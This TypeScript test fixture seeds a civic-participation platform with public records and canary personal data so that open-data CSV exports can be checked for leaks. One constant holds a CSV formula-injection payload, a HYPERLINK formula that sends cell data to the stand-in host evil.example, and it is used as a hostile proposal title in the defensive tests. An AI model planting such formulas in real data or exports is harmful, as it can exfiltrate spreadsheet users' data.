import { Role } from '@quorum/access';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CAST, CLOSE, createBudget, PUBLISH } from './budgets.factory';
import { createConsultation } from './consultations.factory';
import { createUser, createUsers, FACTORY_PASSWORD, insertCensusCodes, TestUser } from './users.factory';
import { CAPITOLE, seedCommune } from './reports.factory';
import { startTestApi, TestApi } from './test-api';
import { startTestWorker, TestWorker } from './test-worker';
import { deliberationInput, LINK_DELIBERATION, UPDATE_TRACKED_ITEM, ADD_TRACKED_ITEM_UPDATE } from './tracking.factory';
import { waitFor } from './wait-for';
import { JobName, JobQueue, QueueName } from '@quorum/queue';
import { publishedResultExportJobId } from '@quorum/budgets';
import { jobCompleted } from './job-completed';

/** Everything open data must never publish, as the bytes a leak would contain. */
export interface PersonalData {
  emails: string[];
  names: string[];
  censusCodes: string[];
  censusHashes: string[];
  passwords: string[];
  passwordHashes: string[];
  userIds: string[];
  reporterContacts: string[];
  reportTokens: string[];
  voterKeys: string[];
  ballotIds: string[];
}

export interface OpenDataSeed {
  staff: TestUser;
  budgetId: string;
  projectIds: string[];
  receipts: string[];
  consultationId: string;
  visibleProposalIds: string[];
  /** Hidden, withdrawn and draft: never exported. */
  unpublishedProposalIds: string[];
  reportIds: string[];
  /** The published budget's winners, tracked by the worker; the first with news and a deliberation. */
  trackedItemIds: string[];
  personal: PersonalData;
}

const BUDGET_RESULT = `query($id: ID!) { budget(id: $id) { status } }`;

/**
 * A commune with every kind of public data and, alongside, personal data with
 * recognisable values: named residents with emails and passwords, census
 * codes, reporters' contacts, voters' participation records. Needs a worker
 * (the tally runs there). The budget's result is published, which enqueues an
 * export (the test's worker runs it).
 */
/** Texts a spreadsheet would run as formulas if a CSV gave them as they are. */
export const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Voir")';
export const FORMULA_BODY = '@SUM(1+1)\tet du texte';

export async function seedOpenData(api: TestApi): Promise<OpenDataSeed> {
  const { districts } = await seedCommune(api);
  const staff = await createUser(api, { role: Role.STAFF, displayName: 'Agent Secretstaff' });
  const names = ['Jeanne Zyxwvutname', 'Paul Qwertyname', 'Awa Mnbvcxname'];
  const residents: TestUser[] = [];
  for (const displayName of names) residents.push(await createUser(api, { displayName, verified: true }));
  const censusCodes = ['CENSUSLEAK0001', 'CENSUSLEAK0002'];
  const censusHashes = await insertCensusCodes(api, censusCodes);

  const consultation = await createConsultation(api, staff.token, { open: 'SUPPORTS' });
  const categoryId = consultation.categories.find((c) => c.name === 'Mobilité')!.id;
  const proposalIds: string[] = [];
  for (const [i, author] of residents.entries()) {
    const [row] = await api.db.query(
      `INSERT INTO proposals (consultation_id, author_id, title, body, category_id, district_id, latitude, longitude, address, state, published_at)
       VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, 'PUBLISHED', now()) RETURNING id`,
      [
        consultation.id,
        author.id,
        // The third one is hostile to spreadsheets (CSV formula injection, issue #14.4).
        i === 2 ? FORMULA_TITLE : `Piste cyclable "rue ${i}", quai; virgule`,
        i === 2 ? FORMULA_BODY : `Ligne 1\nLigne 2 avec « guillemets » et "quotes"`,
        categoryId,
        districts[i].id,
        i === 2 ? null : CAPITOLE.latitude + i / 1000,
        i === 2 ? null : CAPITOLE.longitude,
        `${i} rue du Domicile Privé`,
      ],
    );
    proposalIds.push(row.id);
  }
  const [hidden] = await api.db.query(
    `INSERT INTO proposals (consultation_id, author_id, title, body, state, published_at, hidden_at)
     VALUES ($1, $2, 'HIDDENPROPOSAL title', 'HIDDENPROPOSAL body', 'PUBLISHED', now(), now()) RETURNING id`,
    [consultation.id, residents[0].id],
  );
  const [withdrawn] = await api.db.query(
    `INSERT INTO proposals (consultation_id, author_id, title, body, state, published_at, withdrawal_reason)
     VALUES ($1, $2, 'WITHDRAWNPROPOSAL title', 'WITHDRAWNPROPOSAL body', 'WITHDRAWN', now(), 'changed my mind') RETURNING id`,
    [consultation.id, residents[1].id],
  );
  const [draft] = await api.db.query(
    `INSERT INTO proposals (consultation_id, author_id, title, body, state)
     VALUES ($1, $2, 'DRAFTPROPOSAL title', 'DRAFTPROPOSAL body', 'DRAFT') RETURNING id`,
    [consultation.id, residents[2].id],
  );
  const [moderation] = await api.db.query(
    `INSERT INTO moderations (target_type, target_id, consultation_id, report_count, hidden_at) VALUES ('PROPOSAL', $1, $2, 1, now()) RETURNING id`,
    [hidden.id, consultation.id],
  );
  await api.db.query(
    `INSERT INTO content_reports (moderation_id, reporter_id, reason, details) VALUES ($1, $2, 'OFFENSIVE', 'REPORTDETAILS secret')`,
    [moderation.id, residents[2].id],
  );
  // Supports on two days, and on the hidden proposal (not exported either).
  await api.db.query(
    `INSERT INTO proposal_supports (proposal_id, user_id, created_at)
     VALUES ($1, $3, now() - interval '1 day'), ($1, $4, now()), ($2, $3, now()), ($5, $4, now())`,
    [proposalIds[0], proposalIds[1], residents[1].id, residents[2].id, hidden.id],
  );
  await api.db.query(`UPDATE proposals SET support_count = 2 WHERE id = $1`, [proposalIds[0]]);
  await api.db.query(`UPDATE proposals SET support_count = 1 WHERE id = ANY($1)`, [[proposalIds[1], hidden.id]]);
  await api.db.query(
    `INSERT INTO proposal_answers (proposal_id, status, answer, answered_by_id, published_at) VALUES ($1, 'ACCEPTED', 'Nous le ferons.', $2, now())`,
    [proposalIds[0], staff.id],
  );
  await api.db.query(`UPDATE proposals SET answer_status = 'ACCEPTED' WHERE id = $1`, [proposalIds[0]]);

  const reporterContacts = ['reporter.leak@example.org', 'Reporter Hiddenname', '+33 6 12 34 56 78'];
  const [category] = await api.db.query(`SELECT id FROM report_categories ORDER BY code LIMIT 1`);
  const reports: { id: string; token: string }[] = await api.db.query(
    `INSERT INTO issue_reports (category_id, description, latitude, longitude, address, district_id, reporter_id, reporter_email, reporter_name, reporter_phone, token)
     VALUES ($1, 'REPORTDESCRIPTION devant chez moi', $2, $3, '12 rue REPORTADDRESS', $4, $5, $6, $7, $8, 'tok-0000000000000001'),
            ($1, 'Lampadaire éteint', $2, $3, NULL, $4, NULL, NULL, NULL, NULL, 'tok-0000000000000002')
     RETURNING id, token`,
    [category.id, CAPITOLE.latitude, CAPITOLE.longitude, districts[0].id, residents[0].id, ...reporterContacts],
  );
  await api.db.query(
    `INSERT INTO issue_report_updates (report_id, status, previous_status, note, author_id) VALUES ($1, 'ACKNOWLEDGED', 'OPEN', 'Pris en compte, merci.', $2)`,
    [reports[0].id, staff.id],
  );
  await api.db.query(`UPDATE issue_reports SET status = 'ACKNOWLEDGED' WHERE id = $1`, [reports[0].id]);

  const { budgetId, projectIds, receipts } = await publishedBudget(api, staff, residents);
  const trackedItemIds = await trackWinners(api, staff, budgetId);
  const participations: { voter_key: string; ballot_id: string }[] = await api.db.query(
    `SELECT voter_key, ballot_id FROM budget_participations WHERE budget_id = $1`,
    [budgetId],
  );
  const users: { password_hash: string }[] = await api.db.query(`SELECT password_hash FROM users`);
  return {
    staff,
    budgetId,
    projectIds,
    receipts,
    consultationId: consultation.id,
    visibleProposalIds: proposalIds,
    unpublishedProposalIds: [hidden.id, withdrawn.id, draft.id],
    reportIds: reports.map((r) => r.id),
    trackedItemIds,
    personal: {
      emails: [staff, ...residents].map((u) => u.email),
      names: [...names, 'Agent Secretstaff'],
      censusCodes,
      censusHashes,
      passwords: [FACTORY_PASSWORD],
      passwordHashes: users.map((u) => u.password_hash),
      userIds: [staff, ...residents].map((u) => u.id),
      reporterContacts,
      reportTokens: reports.map((r) => r.token),
      voterKeys: participations.map((p) => p.voter_key),
      ballotIds: participations.map((p) => p.ballot_id),
    },
  };
}

/** A knapsack budget voted by `voters` (plus a few more), closed, tallied by the worker and published. */
async function publishedBudget(
  api: TestApi,
  staff: TestUser,
  voters: TestUser[],
): Promise<{ budgetId: string; projectIds: string[]; receipts: string[] }> {
  const { budgetId, projectIds } = await createBudget(api, staff.token);
  const all = [...voters, ...(await createUsers(api, 5, { verified: true }))];
  const receipts: string[] = [];
  for (const [i, voter] of all.entries()) {
    const ballot = i % 2 ? [projectIds[0], projectIds[4]] : [projectIds[1], projectIds[2], projectIds[4]];
    const { castBallot } = await api.gql.as(voter.token).ok(CAST, { input: { budgetId, projectIds: ballot } });
    receipts.push(castBallot.receipt);
  }
  const gql = api.gql.as(staff.token);
  await gql.ok(CLOSE, { id: budgetId });
  await waitFor(
    async () => ((await gql.ok(BUDGET_RESULT, { id: budgetId })).budget.status === 'TALLIED' ? true : undefined),
    30_000,
    'tally',
  );
  await gql.ok(PUBLISH, { id: budgetId });
  return { budgetId, projectIds, receipts };
}

/** Waits for the worker to track the winners, then moves the first along: works started, news, a deliberation. */
async function trackWinners(api: TestApi, staff: TestUser, budgetId: string): Promise<string[]> {
  const ids = await waitFor(
    async () => {
      const rows: { id: string }[] = await api.db.query(
        `SELECT id FROM tracked_items WHERE budget_id = $1 ORDER BY id`,
        [budgetId],
      );
      return rows.length ? rows.map((r) => r.id) : undefined;
    },
    20_000,
    'tracked winners',
  );
  const gql = api.gql.as(staff.token);
  await gql.ok(UPDATE_TRACKED_ITEM, {
    input: {
      trackedItemId: ids[0],
      status: 'IN_WORKS',
      progressPercent: 30,
      committedCents: 40_000_00,
      department: 'Voirie',
      latitude: 43.6045,
      longitude: 1.4442,
    },
  });
  await gql.ok(ADD_TRACKED_ITEM_UPDATE, {
    input: { trackedItemId: ids[0], body: FORMULA_BODY, occurredOn: '2026-05-04' },
  });
  await gql.ok(LINK_DELIBERATION, { input: deliberationInput(ids[0], 'DEL-2026-031') });
  return ids;
}

export interface OpenDataTestBed {
  api: TestApi;
  worker: TestWorker;
  seed: OpenDataSeed;
  /** OPEN_DATA_DIR, a temporary directory. */
  dir: string;
  close(): Promise<void>;
}

/** API and worker on a fresh OPEN_DATA_DIR, seeded, once the export that publishing the result enqueued has run. */
export async function startOpenDataTestBed(): Promise<OpenDataTestBed> {
  const dir = mkdtempSync(join(tmpdir(), 'quorum-open-data-'));
  const api = await startTestApi({ OPEN_DATA_DIR: dir });
  const worker = await startTestWorker(api.config);
  const seed = await seedOpenData(api);
  // The export that publishing enqueued may have run before the winners were tracked: one more, and wait for
  // the zip of whichever export saw the deliberation.
  await api.app
    .get(JobQueue)
    .enqueue(JobName.EXPORT_OPEN_DATA, { reason: 'request' }, { jobId: 'open-data-test-bed-tracking' });
  await waitFor(
    async () =>
      (
        await api.db.query(
          `SELECT 1 FROM open_data_files z
             JOIN open_data_files d ON d.file_name = 'tracked-item-deliberations.csv' AND d.rows > 0
            WHERE z.format = 'zip' AND z.created_at >= d.created_at`,
        )
      ).length
        ? true
        : undefined,
    60_000,
    'export after the published tally and the tracking',
  );
  // Both exports done (the zip above may be the first's while the second still runs, beside the tests, whose
  // own exports and changes it could interleave with).
  await jobCompleted(api, QueueName.OPEN_DATA, publishedResultExportJobId(seed.budgetId));
  await jobCompleted(api, QueueName.OPEN_DATA, 'open-data-test-bed-tracking');
  return {
    api,
    worker,
    seed,
    dir,
    close: async () => {
      await worker.close();
      await api.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}
